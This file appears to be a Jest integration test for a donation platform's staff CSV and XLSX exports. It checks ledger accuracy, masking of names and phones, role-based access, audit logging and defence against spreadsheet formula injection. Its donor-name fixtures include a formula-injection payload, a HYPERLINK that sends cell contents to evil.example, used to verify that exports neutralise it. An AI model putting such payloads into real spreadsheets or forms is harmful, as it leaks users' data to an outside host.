/**
 * Staff exports (GET /api/staff/exports/{donations,receipts}.{csv,xlsx}): what the file says is
 * what the ledger says, to the fen; names and phones are masked; a name a spreadsheet would run
 * as a formula is neutralised; every export is in the audit log.
 */
import { parse } from 'csv-parse/sync';
import { Workbook } from 'exceljs';
import { randomUUID } from 'node:crypto';
import { formatYuan } from '../src/common/money';
import { eventually } from './support/smtp-sink';
import { createCampaign, createDonation, login, notifySandbox, startApp, TestApp, asDonor } from './support/test-app';

const ID_NUMBER = '11010519491231002X';
const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+8613800138000', '-2+3', '@SUM(1+1)'];

interface Download {
  status: number;
  headers: Headers;
  bytes: Buffer;
  json?: any;
}

describe('staff exports', () => {
  let t: TestApp;
  let admin: string;
  let campaign: string;
  const orders: Record<string, string> = {};
  let receiptNo: string;

  beforeAll(async () => {
    t = await startApp();
    admin = await login(t);
    campaign = await createCampaign(t, admin, { receiptPrefix: 'EX' });
    const donors: [string, number, Record<string, unknown>][] = [
      ['张伟', 10000, { phone: '13800138000' }],
      ['欧阳娜娜', 123456, {}],
      ['匿名的人', 5000, { anonymous: true }],
      ...HOSTILE_NAMES.map((name, i): [string, number, Record<string, unknown>] => [name, 20000 + i, {}]),
    ];
    for (const [donorName, amountFen, extra] of donors) {
      const created = await createDonation(t, campaign, { amountFen, donorName, ...extra });
      expect(created.status).toBe(201);
      const paid = await notifySandbox(t, {
        orderNo: created.body.orderNo,
        transactionId: `SBX-${created.body.orderNo}`,
        amountFen,
        paidAt: new Date().toISOString(),
      });
      expect(paid.status).toBe(200);
      orders[donorName] = created.body.orderNo;
    }
    // One left unpaid, one bank transfer.
    orders.pending = (await createDonation(t, campaign, { amountFen: 777, donorName: '未付款' })).body.orderNo;
    const transfer = await t.request('POST', '/api/staff/bank-transfers', {
      token: admin,
      body: {
        campaignCode: campaign,
        bankReference: `EXP-${randomUUID().slice(0, 8)}`,
        amountFen: 5000000,
        payerName: '武汉光谷科技有限公司',
        receivedAt: '2020-02-01T10:30:00+08:00',
      },
    });
    expect(transfer.status).toBe(201);

    // A receipt for the donor whose name is a formula.
    const hostile = HOSTILE_NAMES[0];
    const request = await t.request('POST', '/api/receipt-requests', {
      body: asDonor({
        campaignCode: campaign,
        orderNo: orders[hostile],
        amountFen: 20000,
        donorType: 'individual',
        name: hostile,
        idNumber: ID_NUMBER,
        invoiceTitle: '=1+1',
        phone: '13800138000',
        email: 'x@example.com',
      }),
    });
    expect(request.status).toBe(201);
    receiptNo = await eventually(
      async () => {
        const s = await t.request('GET', `/api/receipt-requests/${request.body.requestId}`);
        return s.body.status === 'issued' ? (s.body.receiptNo as string) : undefined;
      },
      60_000,
      'receipt issued',
    );
  }, 120_000);
  afterAll(() => t.close());

  async function download(path: string, token: string | null = admin): Promise<Download> {
    const res = await fetch(`${t.baseUrl}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
    const bytes = Buffer.from(await res.arrayBuffer());
    let json: unknown;
    try {
      json = JSON.parse(bytes.toString('utf8'));
    } catch {
      json = undefined;
    }
    return { status: res.status, headers: res.headers, bytes, json };
  }

  function csvRows(bytes: Buffer): string[][] {
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf])); // UTF-8 BOM, for Excel
    const text = bytes.toString('utf8').slice(1);
    expect(text).toMatch(/\r\n$/);
    return parse(text, { relax_quotes: false });
  }

  async function xlsxRows(bytes: Buffer): Promise<unknown[][]> {
    const workbook = new Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const rows: unknown[][] = [];
    workbook.worksheets[0].eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    return rows;
  }

  /** Rows as objects keyed by header. */
  function byHeader(rows: unknown[][]): Record<string, unknown>[] {
    const [header, ...body] = rows;
    return body.map((r) => Object.fromEntries((header as string[]).map((h, i) => [h, r[i] ?? null])));
  }

  async function ledger() {
    const rows: { order_no: string; status: string; amount_fen: string; channel: string }[] = await t.db.query(
      `SELECT d.order_no, d.status, d.amount_fen::text, d.channel FROM donations d JOIN campaigns c ON c.id = d.campaign_id WHERE c.code = $1 ORDER BY d.order_no`,
      [campaign],
    );
    return rows.map((r) => ({ orderNo: r.order_no, status: r.status, amountFen: Number(r.amount_fen), channel: r.channel }));
  }

  /** The words staff read for each code (written out here, not imported, so a changed label fails). */
  const STATUS_WORDS: Record<string, string> = { paid: '已到账', pending: '待支付' };
  const CHANNEL_WORDS: Record<string, string> = { sandbox: '模拟支付', bank_transfer: '银行转账' };

  function checkDonations(rows: Record<string, unknown>[], expected: Awaited<ReturnType<typeof ledger>>) {
    // The code columns carry the ledger's codes, for machines...
    const fromFile = rows
      .map((r) => ({ orderNo: r['订单号'] as string, status: r['状态代码'] as string, amountFen: Number(r['金额（分）']), channel: r['渠道代码'] as string }))
      .sort((a, b) => (a.orderNo < b.orderNo ? -1 : 1));
    expect(fromFile).toEqual(expected);
    expect(new Set(expected.map((r) => r.status))).toEqual(new Set(['paid', 'pending']));
    expect(new Set(expected.map((r) => r.channel))).toEqual(new Set(['sandbox', 'bank_transfer']));
    // ...and the columns staff read say it in Chinese.
    for (const r of rows) {
      expect(r['状态']).toBe(STATUS_WORDS[r['状态代码'] as string]);
      expect(r['渠道']).toBe(CHANNEL_WORDS[r['渠道代码'] as string]);
    }
    for (const r of rows) expect(r['金额（元）']).toBe(formatYuan(Number(r['金额（分）'])));
    const name = (orderNo: string) => rows.find((r) => r['订单号'] === orderNo)!['捐赠人（脱敏）'];
    expect(name(orders['张伟'])).toBe('张*');
    expect(name(orders['欧阳娜娜'])).toBe('欧阳**');
    expect(name(orders['匿名的人'])).toBe('爱心人士');
    for (const hostile of HOSTILE_NAMES) {
      const cell = name(orders[hostile]) as string;
      expect(cell.startsWith("'")).toBe(true);
      expect(cell.slice(1, 2)).toBe(hostile[0]);
      expect(cell).not.toContain(hostile.slice(1)); // masked as well
    }
    expect(rows.find((r) => r['订单号'] === orders['张伟'])!['手机（脱敏）']).toBe('138****8000');
  }

  it('donations.csv: the ledger to the fen, yuan with two decimals beside integer fen, masked, formulas neutralised', async () => {
    const res = await download(`/api/staff/exports/donations.csv?campaignCode=${campaign}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="donations-${campaign}-\\d{8}\\.csv"`));
    expect(res.headers.get('cache-control')).toBe('no-store');
    const text = res.bytes.toString('utf8');
    for (const secret of ['张伟', '13800138000', '欧阳娜娜', 'HYPERLINK', 'evil.example']) expect(text).not.toContain(secret);
    const rows = csvRows(res.bytes);
    expect(rows[0]).toEqual([
      '订单号',
      '活动',
      '渠道',
      '渠道代码',
      '状态',
      '状态代码',
      '金额（元）',
      '金额（分）',
      '捐赠人（脱敏）',
      '匿名',
      '手机（脱敏）',
      '银行流水号',
      '下单时间',
      '到账时间',
      '异常标记时间',
      '异常说明',
    ]);
    const expected = await ledger();
    checkDonations(byHeader(rows), expected);
    const paid = byHeader(rows).filter((r) => r['状态代码'] === 'paid');
    const paidFen = paid.reduce((sum, r) => sum + Number(r['金额（分）']), 0);
    const totals = await t.request('GET', `/api/campaigns/${campaign}/totals`);
    expect(paidFen).toBe(totals.body.amountFen);
    // Times carry their offset (Beijing time).
    expect(paid[0]['到账时间']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+08:00$/);

    const onlyPending = csvRows((await download(`/api/staff/exports/donations.csv?campaignCode=${campaign}&status=pending`)).bytes);
    expect(onlyPending.slice(1).map((r) => r[0])).toEqual([orders.pending]);
    expect(byHeader(onlyPending)[0]).toMatchObject({ 状态: '待支付', 状态代码: 'pending', 渠道: '模拟支付', 渠道代码: 'sandbox' });
  });

  it('donations.xlsx: the same rows, fen as numbers, yuan as text', async () => {
    const res = await download(`/api/staff/exports/donations.xlsx?campaignCode=${campaign}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.bytes.subarray(0, 2).toString('latin1')).toBe('PK');
    const rows = await xlsxRows(res.bytes);
    const objects = byHeader(rows);
    checkDonations(objects, await ledger());
    for (const r of objects) {
      expect(typeof r['金额（分）']).toBe('number');
      expect(typeof r['金额（元）']).toBe('string');
    }
    // No cell is a formula.
    const workbook = new Workbook();
    await workbook.xlsx.load(res.bytes as unknown as ArrayBuffer);
    workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
  });

  it('receipts.csv and receipts.xlsx: issued receipts with masked names and a neutralised title', async () => {
    for (const format of ['csv', 'xlsx']) {
      const res = await download(`/api/staff/exports/receipts.${format}?campaignCode=${campaign}`);
      expect(res.status).toBe(200);
      const rows = byHeader(format === 'csv' ? csvRows(res.bytes) : await xlsxRows(res.bytes));
      expect(rows).toHaveLength(1);
      if (format === 'xlsx') {
        // No official receipt is attached: the sheet does not call the record a 捐赠票据, and the row says 捐赠证明.
        const workbook = new Workbook();
        await workbook.xlsx.load(res.bytes as unknown as ArrayBuffer);
        expect(workbook.worksheets[0].name).toBe('捐赠证明及票据');
      }
      expect(rows[0]).toMatchObject({
        记录编号: receiptNo,
        类型: '捐赠证明',
        类型代码: 'certificate',
        状态: '已开具',
        状态代码: 'issued',
        活动: campaign,
        订单号: orders[HOSTILE_NAMES[0]],
        '捐赠人（脱敏）': "'=***",
        '票据抬头（脱敏）': "'=***",
        '金额（元）': '200.00',
      });
      expect(Number(rows[0]['金额（分）'])).toBe(20000);
      expect(Number(rows[0]['捐赠笔数'])).toBe(1);
      expect(rows[0]['公益事业捐赠票据代码'] || null).toBeNull();
      expect(res.bytes.toString('utf8')).not.toContain(ID_NUMBER);
    }
  });

  it('streams a ledger larger than one batch exactly, across campaigns when none is named', async () => {
    const big = await createCampaign(t, admin);
    const lines = ['bankReference,amountYuan,payerName,receivedAt,payerAccount'];
    let expected = 0;
    for (let i = 0; i < 2_500; i++) {
      const fen = 1 + ((i * 7919) % 500_000);
      expected += fen;
      lines.push(`EXB-${i}-${big},${formatYuan(fen)},付款人${i},2020-02-01 12:00,`);
    }
    const form = new FormData();
    form.append('campaignCode', big);
    form.append('file', new Blob([lines.join('\n')]), 'big.csv');
    const imported = await fetch(`${t.baseUrl}/api/staff/bank-transfers/import`, { method: 'POST', headers: { authorization: `Bearer ${admin}` }, body: form });
    expect(((await imported.json()) as { imported: number }).imported).toBe(2_500);

    const rows = byHeader(csvRows((await download(`/api/staff/exports/donations.csv?campaignCode=${big}`)).bytes));
    expect(rows).toHaveLength(2_500);
    expect(new Set(rows.map((r) => r['订单号'])).size).toBe(2_500);
    expect(rows.reduce((sum, r) => sum + Number(r['金额（分）']), 0)).toBe(expected);
    expect(new Set(rows.map((r) => `${String(r['渠道'])}/${String(r['渠道代码'])}`))).toEqual(new Set(['银行转账/bank_transfer']));

    // Other suites write to the same database meanwhile: at least every row that existed before.
    const [count] = await t.db.query(`SELECT count(*)::int AS n FROM donations`);
    const all = csvRows((await download('/api/staff/exports/donations.csv')).bytes).slice(1);
    expect(all.length).toBeGreaterThanOrEqual(count.n);
    const campaigns = new Set(all.map((r) => r[1]));
    expect(campaigns.has(big) && campaigns.has(campaign)).toBe(true);
    const xlsx = await xlsxRows((await download(`/api/staff/exports/donations.xlsx?campaignCode=${big}`)).bytes);
    expect(xlsx).toHaveLength(2_501);
  }, 300_000);

  it('is audited: who exported which file of which campaign', async () => {
    await download(`/api/staff/exports/receipts.xlsx?campaignCode=${campaign}&status=issued`);
    const audit = await t.request('GET', `/api/staff/audit-log?entity=export&entityId=${campaign}`, { token: admin });
    expect(audit.body.items[0]).toMatchObject({
      action: 'export.receipts',
      actorEmail: 'admin@test.wennuan',
      entity: 'export',
      entityId: campaign,
      after: { file: 'receipts.xlsx', campaignCode: campaign, status: 'issued' },
    });
    expect(audit.body.items.map((a: { action: string }) => a.action)).toContain('export.donations');
  });

  it('is for finance and auditors: warehouse is refused, no token is 401, an unknown campaign 404, a bad filter 400', async () => {
    const token = async (role: string) => {
      const email = `${role}-${randomUUID().slice(0, 8)}@exports.test`;
      expect((await t.request('POST', '/api/staff/users', { token: admin, body: { email, password: 'long-enough-password', role, name: role } })).status).toBe(
        201,
      );
      return login(t, email, 'long-enough-password');
    };
    const auditor = await token('auditor');
    const finance = await token('finance');
    const warehouse = await token('warehouse');
    expect((await download(`/api/staff/exports/donations.csv?campaignCode=${campaign}`, auditor)).status).toBe(200);
    expect((await download(`/api/staff/exports/receipts.xlsx?campaignCode=${campaign}`, finance)).status).toBe(200);
    const refused = await download(`/api/staff/exports/donations.csv?campaignCode=${campaign}`, warehouse);
    expect([refused.status, refused.json?.code]).toEqual([403, 'FORBIDDEN']);
    expect((await download(`/api/staff/exports/donations.csv`, null)).status).toBe(401);
    const unknown = await download(`/api/staff/exports/donations.csv?campaignCode=no-such-campaign`);
    expect([unknown.status, unknown.json?.code]).toEqual([404, 'CAMPAIGN_NOT_FOUND']);
    expect((await download(`/api/staff/exports/receipts.csv?status=paid`)).status).toBe(400);
    expect((await download(`/api/staff/exports/donations.pdf`)).status).toBe(404);
  });
});
